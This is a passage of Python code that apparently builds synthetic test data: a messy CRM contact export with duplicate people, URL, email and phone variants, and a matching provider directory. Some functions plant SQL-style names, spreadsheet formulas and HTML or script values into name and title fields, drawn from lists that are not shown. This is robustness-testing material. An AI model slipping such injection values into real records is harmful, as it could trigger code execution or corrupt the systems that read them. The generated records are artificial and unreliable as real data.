        TALLY["contacts: row", "… of these, without a company domain"] += 1
    return rows + [
        clean_row(person, rng.choices(kinds, weights=weights)[0])
        for person in people[NAME_AND_COMPANY_ONLY:]
    ]


# The same person twice ---------------------------------------------------------------------------


Spelling = tuple[str, str, str]
"""First, last and full name; blank is blank."""


def has_nickname(name: Name) -> bool:
    return name.first in NICKNAMES


def has_accents(name: Name) -> bool:
    return not name.script and name.full != name.latin


def is_latin(name: Name) -> bool:
    return not name.script


def is_not_latin(name: Name) -> bool:
    return bool(name.script)


def by_nickname(name: Name) -> Spelling:
    return NICKNAMES[name.first], name.last, f"{NICKNAMES[name.first]} {name.last}"


def surname_first(name: Name) -> Spelling:
    return "", "", f"{name.last.upper()}, {name.first}"


def in_latin_letters(name: Name) -> Spelling:
    return name.latin_first, name.latin_last, name.latin


def by_initial(name: Name) -> Spelling:
    return f"{name.first[0]}.", name.last, f"{name.first[0]}. {name.last}"


def in_capitals(name: Name) -> Spelling:
    return name.first.upper(), name.last.upper(), name.full.upper()


def swapped(name: Name) -> Spelling:
    return name.last, name.first, f"{name.last} {name.first}"


@dataclass(frozen=True)
class Again:
    """A way in which a person stands in the CRM once more, and how often."""

    label: str
    count: int
    spell: Callable[[Name], Spelling]
    fits: Callable[[Name], bool]


SAME_PERSON_AGAIN = (
    Again("under a nickname (Bob for Robert)", 70, by_nickname, has_nickname),
    Again("as 'SMITH, Robert'", 80, surname_first, is_latin),
    Again("without accents", 60, in_latin_letters, has_accents),
    Again("with an initial only", 60, by_initial, is_latin),
    Again("in capitals", 40, in_capitals, is_latin),
    Again("transliterated", 20, in_latin_letters, is_not_latin),
    Again("with first and last name swapped", 20, swapped, is_latin),
)
ROWS_AGAIN = sum(again.count for again in SAME_PERSON_AGAIN)


def row_again(world: World, row: Row, spelling: Spelling, by: str) -> Row:
    """The second row of a person, which shares a LinkedIn URL, an e-mail, both or nothing."""
    person, rng = who(row), world.rng
    again = clean_row(person, ())
    again.fields |= dict(zip(("first_name", "last_name", "full_name"), spelling, strict=True))
    again.fields["job_title"] = rng.choice((person.title, person.title, rng.choice(TITLES)))
    again.settled |= {"first_name", "last_name", "full_name", "linkedin_url", "email"}
    if by in ("linkedin", "both"):
        variant = rng.choice(LINKEDIN_VARIANTS)
        again.fields["linkedin_url"] = variant(row.fields["linkedin_url"], again, rng)
    if by in ("email", "both"):
        again.fields["email"] = rng.choice((str, str.upper, str.title))(row.fields["email"])
    if by == "neither":
        shown = "email" if not row.fields["email"] else "linkedin_url"
        again.fields[shown] = clean_row(person, (shown,)).fields[shown]
    if rng.random() < PHONE_IN_SECOND_ROW:
        again.fields["phone"] = rng.choice((person.landline, person.mobile))
    row.is_twice = again.is_twice = True
    return again


def same_people_again(world: World, rows: list[Row], accounts: list[Company]) -> list[Row]:
    rng, again = world.rng, []
    free = [row for row in rows if row.fields["linkedin_url"] or row.fields["email"]]
    rng.shuffle(free)
    for way in SAME_PERSON_AGAIN:
        for row in [row for row in free if way.fits(who(row).name)][: way.count]:
            shared = what_they_share(rng, row)
            again.append(row_again(world, row, way.spell(who(row).name), shared))
            free.remove(row)
            TALLY["contacts: same person again", way.label] += 1
            TALLY["contacts: same person again, sharing", SHARING[shared]] += 1
    for row in rng.sample(again, AGAIN_ON_ANOTHER_ACCOUNT):
        move_to_another_account(rng, row, accounts)
    return again


SHARING = {
    "linkedin": "the LinkedIn profile, in another variant",
    "email": "the e-mail, at times in another case",
    "both": "both",
    "neither": "neither: only the provider can tell",
}


def what_they_share(rng: Random, row: Row) -> str:
    has_both = bool(row.fields["linkedin_url"] and row.fields["email"])
    if has_both:
        return draw(rng, {by: share for by, share in AGAIN_BY.items() if by != "neither"})
    only = "linkedin" if row.fields["linkedin_url"] else "email"
    return draw(rng, {only: 1 - 3 * AGAIN_BY["neither"], "neither": 3 * AGAIN_BY["neither"]})


def move_to_another_account(rng: Random, row: Row, accounts: list[Company]) -> None:
    """The same person on an account of another tier: two priorities, one look-up."""
    home = who(row).company.tier
    account = rng.choice([a for a in accounts if a.tier != home])
    row.fields |= {"account_id": account.account_id, "company_name": account.name}
    row.fields["company_domain"] = account.domain
    row.settled |= {"phone", "company_domain", "account_id"}
    TALLY["contacts: same person again", "… of all these, on an account of another tier"] += 1


# Shared mailboxes and switchboards, rows of no use, repeated ids --------------------------------


def colleagues(rng: Random, rows: list[Row], sizes: Sequence[int], column: str) -> list[list[Row]]:
    """Groups of differently named people of one company who have a value in the column."""
    by_company: dict[str, list[Row]] = {}
    for row in rows:
        if not row.is_twice and column not in row.settled and row.fields[column]:
            by_company.setdefault(who(row).company.domain, []).append(row)
    groups: list[list[Row]] = []
    names = sorted(by_company)
    rng.shuffle(names)
    for size in sizes:
        domain = next(d for d in names if len(by_company[d]) >= size)
        names.remove(domain)
        groups.append(rng.sample(by_company[domain], size))
    return groups


def share_mailboxes(world: World, rows: list[Row]) -> list[str]:
    """A reception's address in the rows of several people. No list of role names knows it."""
    places = ("north", "desk2", "floor3", "empfang-ost", "hq-team", "accueil.sud", "front.b")
    mailboxes = []
    for place, group in zip(
        places, colleagues(world.rng, rows, SHARED_MAILBOXES, "email"), strict=True
    ):
        mailboxes.append(f"{place}@{who(group[0]).company.mail_domain}")
        for row in group:
            row.fields["email"] = mailboxes[-1]
            row.settled |= {"email", "first_name", "last_name", "full_name"}
            TALLY["contacts: email", "one mailbox of several people"] += 1
    return mailboxes


def share_switchboards(world: World, rows: list[Row]) -> list[str]:
    """A company's number in the rows of many people, in several formats."""
    numbers = []
    for group in colleagues(world.rng, rows, SHARED_SWITCHBOARDS, "phone"):
        numbers.append(world.phone(who(group[0]).company.country.landlines))
        for row in group:
            row.fields["phone"] = numbers[-1]
            row.fields["phone"] = world.rng.choice((as_e164, as_international, with_extension))(
                numbers[-1], row, world.rng
            )
            row.settled |= {"phone", "company_domain", "first_name", "last_name", "full_name"}
            if world.rng.random() < SWITCHBOARD_ONLY and not row.is_twice:
                row.fields |= {"linkedin_url": "", "email": ""}
            TALLY["contacts: phone", "one switchboard of many people"] += 1
    return numbers


def unusable_rows(world: World, accounts: list[Company]) -> list[Row]:
    """Rows by which nobody can be found. Half of them stand on an account."""
    rng, rows = world.rng, []
    for n in range(UNUSABLE_ROWS):
        fields = dict.fromkeys(CONTACT_COLUMNS, "")
        account = rng.choice(accounts)
        if n % 2:
            fields |= {"account_id": account.account_id, "company_name": account.name}
        name = world.latin_name(account.country)
        match n % 5:
            case 0:
                fields["job_title"] = rng.choice(TITLES)
            case 1:
                fields |= {"email": rng.choice(("n/a", "none", "-", "@", "x")), "phone": "tbd"}
            case 2:
                fields |= {"first_name": name.first, "account_id": "", "company_name": ""}
            case 3:
                fields |= {"first_name": " ", "last_name": "\u00a0", "phone": "000-000"}
            case 4:
                fields |= {"email": f"info@{account.mail_domain}", "full_name": "", "phone": "0"}
        rows.append(Row(None, fields, settled=set(CONTACT_COLUMNS)))
    TALLY["contacts: row", "nothing usable"] = len(rows)
    return rows


def repeat_ids(rng: Random, rows: list[dict[str, str]]) -> list[dict[str, str]]:
    """Export some rows twice. The one updated later has another title; it may stand first."""
    usable = [r for r in rows if r["updated_at"] and r["job_title"] and r["email"]]
    repeats = []
    for row in rng.sample(usable, REPEATED_IDS):
        later = datetime.fromisoformat(row["updated_at"]) + timedelta(hours=rng.randint(1, 4))
        repeats.append(row | {"job_title": rng.choice(TITLES), "updated_at": iso(later)})
        TALLY["contacts: row", "contact_id repeated (the later row wins)"] += 1
    for row in repeats:
        rows.insert(rng.randrange(len(rows)), row)
    return rows


# The kinds of mess, one small function each ------------------------------------------------------

Change = Callable[[str, Row, Random], str]


def profile(row: Row) -> str:
    """The profile's path, percent-encoded as LinkedIn itself gives it."""
    return f"linkedin.com/in/{quote(who(row).slug)}"


def over_http(url: str, row: Row, rng: Random) -> str:
    return f"http://www.{profile(row)}"


def without_www(url: str, row: Row, rng: Random) -> str:
    return f"https://{profile(row)}"


def without_scheme(url: str, row: Row, rng: Random) -> str:
    return rng.choice(("", "www.")) + profile(row)


def on_country_subdomain(url: str, row: Row, rng: Random) -> str:
    subdomain = SUBDOMAIN.get(who(row).company.country.code, "uk")
    return f"https://{subdomain}.{profile(row)}"


def on_mobile_site(url: str, row: Row, rng: Random) -> str:
    return f"https://m.{profile(row)}"


def with_trailing_slash(url: str, row: Row, rng: Random) -> str:
    return f"https://www.{profile(row)}/"


def with_query(url: str, row: Row, rng: Random) -> str:
    query = ("?trk=public_profile", "/?originalSubdomain=de", "?miniProfileUrn=urn%3Ali%3A1&lipi=x")
    return f"https://www.{profile(row)}{rng.choice(query)}"


def with_locale(url: str, row: Row, rng: Random) -> str:
    return f"https://www.{profile(row)}/{rng.choice(('en', 'de', 'fr', 'es'))}"


def in_upper_case(url: str, row: Row, rng: Random) -> str:
    return rng.choice((str.upper, str.title))(f"https://www.{profile(row)}")


def with_encoded_accents(url: str, row: Row, rng: Random) -> str:
    return rng.choice((str, str.lower))(f"https://www.{profile(row)}")


def with_bare_accents(url: str, row: Row, rng: Random) -> str:
    return f"https://www.linkedin.com/in/{who(row).slug}"


def padded_url(url: str, row: Row, rng: Random) -> str:
    return f" {url}\u00a0"


LINKEDIN_VARIANTS: tuple[Change, ...] = (
    over_http, without_www, without_scheme, on_country_subdomain, on_mobile_site,
    with_trailing_slash, with_query, with_locale, in_upper_case,
)  # fmt: skip


def old_public_url(url: str, row: Row, rng: Random) -> str:
    stem = who(row).slug.rsplit("-", 1)[0]
    return f"http://www.linkedin.com/pub/{quote(stem)}/{digits(rng, '#/#1#/3##')}"


def company_page(url: str, row: Row, rng: Random) -> str:
    label = row.fields["company_name"].split()[0].lower()
    return f"https://www.linkedin.com/company/{quote(label)}"


def junk_url(url: str, row: Row, rng: Random) -> str:
    return rng.choice(JUNK_LINKEDIN).format(slug=who(row).slug, digits=digits(rng, "######"))


def upper_case(text: str, row: Row, rng: Random) -> str:
    return text.upper()


def padded(text: str, row: Row, rng: Random) -> str:
    return rng.choice(("  {}", "{} ", " {}  ", "\t{}")).format(text)


def padded_with_nbsp(text: str, row: Row, rng: Random) -> str:
    return rng.choice(("\u00a0{}", "{}\u00a0", "{}\u2003")).format(text)


def as_mailto(email: str, row: Row, rng: Random) -> str:
    return rng.choice(("mailto:{}", "MAILTO:{}", "mailto:{}?subject=Hello")).format(email)


def with_display_name(email: str, row: Row, rng: Random) -> str:
    return f'"{ascii_letters(row.fields["full_name"]) or "Contact"}" <{email}>'


def two_addresses(email: str, row: Row, rng: Random) -> str:
    return f"{email}; {who(row).personal_email}"


def with_zero_width(text: str, row: Row, rng: Random) -> str:
    at = rng.randrange(1, len(text)) if len(text) > 1 else 1
    return text[:at] + rng.choice("\u200b\u200d\ufeff\u2060") + text[at:]


def disposable(email: str, row: Row, rng: Random) -> str:
    return f"{coined_word(rng)}{rng.randrange(1000, 9999)}@{rng.choice(DISPOSABLE)}"


def role_address(email: str, row: Row, rng: Random) -> str:
    return f"{rng.choice(ROLES)}@{who(row).company.mail_domain}"


def malformed(email: str, row: Row, rng: Random) -> str:
    local, domain = email.split("@")
    parts = {"local": local, "domain": domain, "label": domain.split(".")[0]}
    name = {
        "first": local_part(row.fields["first_name"]),
        "last": local_part(row.fields["last_name"]),
    }
    return rng.choice(MALFORMED).format(**parts, **name)


def formatted(number: str, style: int) -> str:
    return phonenumbers.format_number(phonenumbers.parse(number), style)


def as_e164(number: str, row: Row, rng: Random) -> str:
    return number


def as_international(number: str, row: Row, rng: Random) -> str:
    return formatted(number, phonenumbers.PhoneNumberFormat.INTERNATIONAL)


def as_national(number: str, row: Row, rng: Random) -> str:
    return formatted(number, phonenumbers.PhoneNumberFormat.NATIONAL)


def as_national_digits(number: str, row: Row, rng: Random) -> str:
    return re.sub(r"\D", "", as_national(number, row, rng))


def with_dots(number: str, row: Row, rng: Random) -> str:
    return re.sub(r"[ -]", ".", as_international(number, row, rng))


def with_double_zero(number: str, row: Row, rng: Random) -> str:
    return as_international(number, row, rng).replace("+", "00", 1)


def with_zero_in_brackets(number: str, row: Row, rng: Random) -> str:
    code, rest = as_international(number, row, rng).split(" ", 1)
    return f"{code} (0){rest}"


def with_extension(number: str, row: Row, rng: Random) -> str:
    suffix = rng.choice((" ext. {}", " x{}", ", ext {}", " extension {}")).format(
        rng.randrange(11, 999)
    )
    return as_international(number, row, rng) + suffix


def as_tel_uri(number: str, row: Row, rng: Random) -> str:
    return formatted(number, phonenumbers.PhoneNumberFormat.RFC3966)


def junk_phone(number: str, row: Row, rng: Random) -> str:
    return rng.choice(JUNK_PHONES)


def blank(text: str, row: Row, rng: Random) -> str:
    return ""


def with_title(first: str, row: Row, rng: Random) -> str:
    return f"{rng.choice(('Dr.', 'Prof. Dr.', 'Mr.', 'Mrs', 'Dipl.-Ing.', 'Sir'))} {first}"


def with_suffix(last: str, row: Row, rng: Random) -> str:
    return last + rng.choice((" Jr.", ", Jr.", " III", ", PhD", " MBA", " (she/her)"))


def decomposed(text: str, row: Row, rng: Random) -> str:
    return unicodedata.normalize("NFD", text)


def mojibake(text: str, row: Row, rng: Random) -> str:
    return text.encode().decode("cp1252", "ignore")


def typographic(text: str, row: Row, rng: Random) -> str:
    return text.replace("'", "’")


def with_emoji(text: str, row: Row, rng: Random) -> str:
    return f"{text} {rng.choice(EMOJI)}"


def right_to_left_mark(text: str, row: Row, rng: Random) -> str:
    return f"\u200f{text}\u200e"


def called_null(text: str, row: Row, rng: Random) -> str:
    return "Null"


def hostile_name(text: str, row: Row, rng: Random) -> str:
    return rng.choice(HOSTILE_NAMES)


def spreadsheet_formula(text: str, row: Row, rng: Random) -> str:
    return rng.choice(FORMULAS)


def html(text: str, row: Row, rng: Random) -> str:
    return rng.choice(HTML)


def with_newline(text: str, row: Row, rng: Random) -> str:
    return text + rng.choice(("\n", "\n\n", "\r\n")) + rng.choice(TITLES)


def with_quotes(text: str, row: Row, rng: Random) -> str:
    return rng.choice(('{}, "Growth"', '"{}"', "{} \\ interim", '{}; "a, b"')).format(text)


def very_long(text: str, row: Row, rng: Random) -> str:
    return (f"{text} and everything else that nobody else would do, " * 100)[:3000]


def as_url(domain: str, row: Row, rng: Random) -> str:
    return rng.choice(("https://www.{}/", "http://{}", "www.{}", "https://{}/en/about?x=1")).format(
        domain
    )


def as_subdomain(domain: str, row: Row, rng: Random) -> str:
    return f"{rng.choice(('shop', 'mail', 'eu', 'careers'))}.{domain}"


def free_mail_host(domain: str, row: Row, rng: Random) -> str:
    return rng.choice(("gmail.com", "yahoo.com", "gmx.de"))


def without_legal_form(name: str, row: Row, rng: Random) -> str:
    return " ".join(name.split()[:2])


def unknown_account(account_id: str, row: Row, rng: Random) -> str:
    return digits(rng, "A9###")


def is_anybodys(row: Row) -> bool:
    return True


def has_identifier(row: Row) -> bool:
    return any(row.fields[column] for column in ("linkedin_url", "email", "phone"))


def has_country_domain(row: Row) -> bool:
    """Where the company's domain tells the country of a number without a code."""
    return who(row).company.has_country_domain and bool(row.fields["company_domain"])


def has_generic_domain(row: Row) -> bool:
    return not who(row).company.has_country_domain


def writes_a_trunk_zero(row: Row) -> bool:
    return who(row).company.country.code in ("DE", "GB", "FR", "NL", "SE")


def has_accents_in_slug(row: Row) -> bool:
    return not who(row).slug.isascii()


def has_accents_in_last_name(row: Row) -> bool:
    return not who(row).name.script and not row.fields["last_name"].isascii()


def has_apostrophe(row: Row) -> bool:
    return "'" in row.fields["last_name"]


def reads_right_to_left(row: Row) -> bool:
    return who(row).name.script in ("Hebrew", "Arabic")


def is_work_email(row: Row) -> bool:
    return row.fields["email"] == who(row).work_email


@dataclass(frozen=True)
class Mess:
    """One kind of mess: what is done to which column of how many rows."""

    column: str
    label: str
    count: int
    change: Change
    fits: Callable[[Row], bool] = is_anybodys
    loses: bool = False
    """The value no longer identifies its person: never done to people who stand in two rows."""
    keeps: tuple[str, ...] = ()
    """Further columns that must stay as they are for this to make sense."""


MESSES = (
    Mess("linkedin_url", "with accents, percent-encoded", 40, with_encoded_accents,
         has_accents_in_slug),
    Mess("linkedin_url", "with accents, not encoded", 20, with_bare_accents, has_accents_in_slug),
    Mess("linkedin_url", "old /pub/ form", 35, old_public_url, loses=True),
    Mess("linkedin_url", "a company page", 40, company_page, loses=True),
    Mess("linkedin_url", "no profile at all", 40, junk_url, loses=True),
    Mess("linkedin_url", "http", 180, over_http),
    Mess("linkedin_url", "without www", 120, without_www),
    Mess("linkedin_url", "without scheme", 150, without_scheme),
    Mess("linkedin_url", "country subdomain", 150, on_country_subdomain),
    Mess("linkedin_url", "m. (mobile)", 60, on_mobile_site),
    Mess("linkedin_url", "trailing slash", 250, with_trailing_slash),
    Mess("linkedin_url", "query string", 140, with_query),
    Mess("linkedin_url", "locale suffix", 60, with_locale),
    Mess("linkedin_url", "upper or title case", 60, in_upper_case),
    Mess("linkedin_url", "blanks around", 30, padded_url),
    Mess("email", "disposable", 45, disposable, loses=True),
    Mess("email", "role address (info@ …)", 140, role_address, loses=True),
    Mess("email", "malformed", 90, malformed, is_work_email, loses=True),
    Mess("email", "upper case", 200, upper_case),
    Mess("email", "blanks around", 120, padded),
    Mess("email", "non-breaking blanks around", 25, padded_with_nbsp),
    Mess("email", "mailto:", 70, as_mailto),
    Mess("email", "display name", 30, with_display_name),
    Mess("email", "two addresses", 20, two_addresses, is_work_email, loses=True),
    Mess("email", "zero-width character inside", 15, with_zero_width),
    Mess("phone", "junk", 70, junk_phone, loses=True),
    Mess("phone", "national, country told by the domain", 420, as_national, has_country_domain,
         keeps=("company_domain",)),
    Mess("phone", "national digits, country told by the domain", 130, as_national_digits,
         has_country_domain, keeps=("company_domain",)),
    Mess("phone", "national on a .com or .io", 180, as_national, has_generic_domain),
    Mess("phone", "international with blanks", 450, as_international),
    Mess("phone", "international with dots", 80, with_dots),
    Mess("phone", "00 for +", 100, with_double_zero),
    Mess("phone", "+49 (0)30 …", 70, with_zero_in_brackets, writes_a_trunk_zero),
    Mess("phone", "extension", 90, with_extension),
    Mess("phone", "tel: URI", 25, as_tel_uri),
    Mess("first_name", "SQL", 12, hostile_name),
    Mess("first_name", "title before the name", 70, with_title),
    Mess("first_name", "emoji", 18, with_emoji),
    Mess("first_name", "upper case", 90, upper_case),
    Mess("first_name", "blanks around", 60, padded),
    Mess("first_name", "zero-width character inside", 25, with_zero_width),
    Mess("last_name", "called Null", 3, called_null),
    Mess("last_name", "suffix (Jr., PhD …)", 50, with_suffix),
    Mess("last_name", "typographic apostrophe", 15, typographic, has_apostrophe),
    Mess("last_name", "accents decomposed (NFD)", 25, decomposed, has_accents_in_last_name),
    Mess("last_name", "mojibake", 15, mojibake, has_accents_in_last_name),
    Mess("last_name", "non-breaking blanks around", 40, padded_with_nbsp),
    Mess("last_name", "upper case", 90, upper_case),
    Mess("full_name", "direction marks around", 15, right_to_left_mark, reads_right_to_left),
    Mess("full_name", "spreadsheet formula", 6, spreadsheet_formula),
    Mess("full_name", "blank, in parts only", 900, blank, keeps=("first_name", "last_name")),
    Mess("job_title", "spreadsheet formula", 10, spreadsheet_formula),
    Mess("job_title", "HTML or script", 20, html),
    Mess("job_title", "line break inside", 30, with_newline),
    Mess("job_title", "quotes or backslash inside", 30, with_quotes),
    Mess("job_title", "3,000 characters", 1, very_long),
    Mess("job_title", "blank", 300, blank),
    Mess("company_domain", "written as a URL", 150, as_url),
    Mess("company_domain", "subdomain", 60, as_subdomain),
    Mess("company_domain", "upper case", 60, upper_case),
    Mess("company_domain", "a free-mail host", 20, free_mail_host),
    Mess("company_domain", "blank", 500, blank, has_identifier),
    Mess("company_name", "without legal form", 900, without_legal_form),
    Mess("company_name", "upper case", 120, upper_case),
    Mess("company_name", "blank", 150, blank, has_identifier),
    Mess("account_id", "not among the accounts", 14, unknown_account),
)  # fmt: skip


def make_mess(rng: Random, rows: list[Row], mess: Mess) -> None:
    """Do it to as many rows as asked; each value is spoiled once at most, so the counts hold."""

    def can(row: Row) -> bool:
        is_free = row.fields[mess.column] and mess.column not in row.settled
        return bool(is_free) and not (mess.loses and row.is_twice) and mess.fits(row)

    for row in rng.sample([row for row in rows if can(row)], mess.count):
        row.fields[mess.column] = mess.change(row.fields[mess.column], row, rng)
        row.settled |= {mess.column, *mess.keeps}
    TALLY[f"contacts: {mess.column}", mess.label] += mess.count


def blank_name_parts(rng: Random, rows: list[Row]) -> None:
    """Some rows have the full name only."""
    parts = {"first_name", "last_name"}
    free = [
        r for r in rows if r.fields["full_name"] and r.fields["last_name"] and not r.settled & parts
    ]
    for row in rng.sample(free, PARTS_BLANK):
        row.fields |= dict.fromkeys(parts, "")
        row.settled |= parts | {"full_name"}
    TALLY["contacts: full_name", "given alone, without its parts"] = PARTS_BLANK


def follow_parts(row: Row) -> None:
    """A CRM builds the full name from its parts, spoiled as they are."""
    spoiled = {"first_name", "last_name"} & row.settled
    is_free = "full_name" not in row.settled and row.fields["full_name"]
    if spoiled and is_free and not who(row).name.script:
        row.fields["full_name"] = f"{row.fields['first_name']} {row.fields['last_name']}"


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def date_and_number(rng: Random, rows: list[Row]) -> list[dict[str, str]]:
    """Give every row its id and dates, in the order in which the rows came into the CRM."""
    rng.shuffle(rows)
    age_days = sorted((2500 * rng.random() ** 1.5 for _ in rows), reverse=True)
    finished = []
    for number, (row, age) in enumerate(zip(rows, age_days, strict=True), start=1):
        created = REFERENCE - timedelta(days=1 + age)
        updated = created + timedelta(days=age * rng.choice((0, 0.2, 0.5, 0.9, 1)) * rng.random())
        stamps = {"created_at": iso(created), "updated_at": iso(updated)}
        finished.append(row.fields | stamps | {"contact_id": f"C{number:05d}"})
        if row.person is not None:
            row.person.contact_ids.append(f"C{number:05d}")
    for column, count in (("created_at", NO_CREATED_AT), ("updated_at", NO_UPDATED_AT)):
        for fields in rng.sample(finished, count):
            fields[column] = ""
        TALLY["contacts: row", f"no {column}"] = count
    return finished


@dataclass(frozen=True)
class Crm:
    """The CRM's rows, and what the directory's maker must know of them."""

    rows: list[dict[str, str]]
    email_only: list[Person]
    """People whose one identifier is a good work e-mail: whose address somebody else may have."""
    name_only: list[Person]
    mailboxes: list[str]
    switchboards: list[str]


def make_crm(world: World, people: list[Person], accounts: list[Company]) -> Crm:
    rng = world.rng
    rows = rows_of_everybody(rng, people)
    rows += same_people_again(world, rows, accounts)
    mailboxes, switchboards = share_mailboxes(world, rows), share_switchboards(world, rows)
    for mess in MESSES:
        make_mess(rng, rows, mess)
    blank_name_parts(rng, rows)
    for row in rows:
        follow_parts(row)
    email_only = [
        who(row)
        for row in rows
        if not row.is_twice and not row.fields["linkedin_url"] and is_work_email(row)
    ]
    rows += unusable_rows(world, accounts)
    count_scripts(rows)
    finished = repeat_ids(rng, date_and_number(rng, rows))
    TALLY["contacts: row", "no account_id"] = sum(not row["account_id"] for row in finished)
    name_only = people[:NAME_AND_COMPANY_ONLY]
    return Crm(finished, email_only, name_only, mailboxes, switchboards)


def count_scripts(rows: list[Row]) -> None:
    for row in rows:
        name = f"{row.fields['first_name']} {row.fields['last_name']} {row.fields['full_name']}"
        if row.person and row.person.name.script and not name.isascii():
            TALLY["contacts: names", f"{row.person.name.script} script"] += 1
        elif row.person and not name.isascii():
            TALLY["contacts: names", "accents or other non-ASCII characters"] += 1
        for label, pattern in NAME_SIGNS.items():
            TALLY["contacts: names", label] += bool(re.search(pattern, name))
        email = row.fields["email"].lower()
        free = any(host in email for host in free_mail_hosts())
        TALLY["contacts: email", "free-mail host"] += free


NAME_SIGNS = {
    "apostrophe": r"\w['’]\w",
    "hyphen": r"\w-\w",
    "particle (van der, de la …)": r"(?i)\b(van|von|de|di|du|zu|bin|dos) ",
}


@functools.cache
def free_mail_hosts() -> tuple[str, ...]:
    return tuple(
        {f"@{host}": None for hosts in (*FREE_MAIL.values(), OTHER_FREE_MAIL) for host in hosts}
    )


# 3. The directory: what the provider knows -------------------------------------------------------


HEADLINES = (
    "{title} | {company}",
    "{title}",
    'Your "go-to" {title}, since {started}',
    "{title}\n{location}",
)


class Directory:
    """Builds people.csv. A record may leave out, update or contradict the world, not repeat it."""

    file = "people"

    def __init__(self, world: World, companies: list[Company]) -> None:
        self.world, self.rng, self.companies = world, world.rng, companies
        self.uids = Unique()
        self.records: list[dict[str, str]] = []
        self.listed: list[tuple[Person, Company, dict[str, str]]] = []

    def add(
        self, person: Person, name: str, *, changed: bool = False, coverage: str = ""
    ) -> dict[str, str]:
        """List a person under this name, at our company or (changed) at another one."""
        coverage = coverage or draw(self.rng, {key: kind.share for key, kind in COVERAGE.items()})
        employer = self.another_company(person.company) if changed else person.company
        record = dict.fromkeys(PEOPLE_COLUMNS, "") | self.profile(person, name)
        record |= self.new_job(person, employer) if changed else self.same_job(person)
        record |= self.emails(person, employer, coverage)
        record |= self.phones(person, employer, coverage)
        record["headline"] = self.headline(record)
        person.uid = record["uid"]
        self.records.append(record)
        self.listed.append((person, employer, record))
        TALLY[f"{self.file}: what is given", COVERAGE[coverage].label] += 1
        return record

    def another_company(self, company: Company) -> Company:
        return self.rng.choice([c for c in self.companies if c.domain != company.domain])

    def profile(self, person: Person, name: str) -> dict[str, str]:
        rng, country = self.rng, person.company.country
        slug = self.world.slug(person.name) if rng.random() < PROFILE_MOVED else person.slug
        return {
            "uid": self.uids.make(lambda: f"{rng.getrandbits(128):032x}"),
            "full_name": name,
            "gender": person.name.gender if rng.random() < GENDER_KNOWN else "",
            "location": f"{rng.choice(country.cities)}, {country.name}",
            "linkedin_url": f"https://www.linkedin.com/in/{quote(slug)}",
        }

    def same_job(self, person: Person) -> dict[str, str]:
        """Still where the CRM has them, at times under another title."""
        company = person.company
        title = (
            person.title
            if self.rng.random() < TITLE_AS_IN_CRM
            else self.world.title(company.country)
        )
        job = self.job(company, title, years=(1, 12))
        if self.rng.random() < PREVIOUS_JOB_KNOWN:
            before = self.another_company(company)
            job |= self.previous(before, self.world.title(before.country))
        return job

    def new_job(self, person: Person, employer: Company) -> dict[str, str]:
        """Gone within the last year; our company is now the previous one."""
        job = self.job(employer, self.world.title(employer.country), years=(0, 0))
        return job | self.previous(person.company, person.title)

    def job(self, company: Company, title: str, years: tuple[int, int]) -> dict[str, str]:
        ago = timedelta(days=365 * self.rng.randint(*years) + self.rng.randint(20, 330))
        return {
            "title": title,
            "company": company.name,
            "company_domain": company.domain,
            "company_industry": company.industry,
            "company_size": company.size,
            "started": (REFERENCE - ago).strftime("%Y-%m"),
        }

    def previous(self, company: Company, title: str) -> dict[str, str]:
        keys = ("previous_title", "previous_company", "previous_company_domain")
        return dict(zip(keys, (title, company.name, company.domain), strict=True))

    def headline(self, record: dict[str, str]) -> str:
        return (
            self.rng.choice(HEADLINES).format(**record)
            if self.rng.random() < HEADLINE_KNOWN
            else ""
        )

    def emails(self, person: Person, employer: Company, coverage: str) -> dict[str, str]:
        rng, rating = self.rng, COVERAGE[coverage].work_rating
        work = self.work_email(person, employer) if rating else ""
        personal, personal_rating = "", ""
        if coverage == "personal":
            personal, personal_rating = person.personal_email, "100"
        elif rating and rng.random() < PERSONAL_BESIDE_WORK:
            # beside a work e-mail that is only likely, nothing else is verified
            personal = person.personal_email
            personal_rating = "70" if rating == "70" else rng.choice(("70", "100"))
        return {
            "work_email": work,
            "work_email_rating": rating,
            "personal_email": personal,
            "personal_email_rating": personal_rating,
            "known_emails": self.known_emails(person, {work, personal}),
        }

    def work_email(self, person: Person, employer: Company) -> str:
        if employer is not person.company:
            return self.world.work_email(person.name, employer)
        if self.rng.random() < SHOWN_EMAIL_IS_ANOTHER:
            return self.world.other_work_email(person.name, employer)
        return person.work_email

    def known_emails(self, person: Person, shown: set[str]) -> str:
        """Addresses by which the person is found though they are not given out."""
        every = {person.work_email, person.former_email, person.crm_email} - shown - {""}
        return ";".join(e for e in sorted(every) if self.rng.random() < OLD_EMAIL_STILL_FINDS)

    def phones(self, person: Person, employer: Company, coverage: str) -> dict[str, str]:
        """A new job brings a new desk; the mobile phone stays."""
        rng, found = self.rng, {}
        is_moved = employer is not person.company
        desk = self.world.phone(employer.country.landlines) if is_moved else person.landline
        for kind, number in (("work_phone", desk), ("mobile_phone", person.mobile)):
            if rng.random() < COVERAGE[coverage].phone_share:
                found |= {kind: number, f"{kind}_rating": rng.choice(("70", "100"))}
        if coverage == "phones" and not found:
            found = {"mobile_phone": person.mobile, "mobile_phone_rating": "100"}
        return found


def provider_spelling(world: World, person: Person, file: str = "people") -> str:
    """The name as the provider has it: at times spelled otherwise than in the CRM."""
    name, rng = person.name, world.rng
    if rng.random() >= (TRANSLITERATED if name.script else OTHER_SPELLING):
        return name.full
    spellings = {"Latin letters for another script": name.latin}
    if not name.script:
        married = world.latin_name(person.company.country).last
        spellings = {
            "nickname": f"{NICKNAMES.get(name.first, name.first)} {name.last}",
            "accents dropped": name.latin,
            "married name": f"{name.first} {married}",
            "middle initial": f"{name.first} {rng.choice('ABDEHJLMRST')}. {name.last}",
        }
    possible = [how for how, full in spellings.items() if full != name.full]
    how = rng.choice(possible[:2])  # the first two suit few names: taken where they can be
    TALLY[f"{file}: another spelling than in the CRM", how] += 1
    return spellings[how]


def make_directory(
    world: World, people: list[Person], crm: Crm, companies: list[Company]
) -> Directory:
    """Most of the people, some of them changed; a few impostors; and people nobody asked for."""
    rng, directory = world.rng, Directory(world, companies)
    recycled = rng.sample(crm.email_only, RECYCLED_EMAILS)
    recycled_ids = {id(person) for person in recycled}
    for person in people:
        if id(person) in recycled_ids or rng.random() >= KNOWN_TO_PROVIDER:
            TALLY["people: row", "behind contacts, but not in the directory"] += 1
            continue
        changed = rng.random() < JOB_CHANGED
        directory.add(person, provider_spelling(world, person), changed=changed)
        TALLY["people: row", "behind contacts"] += 1
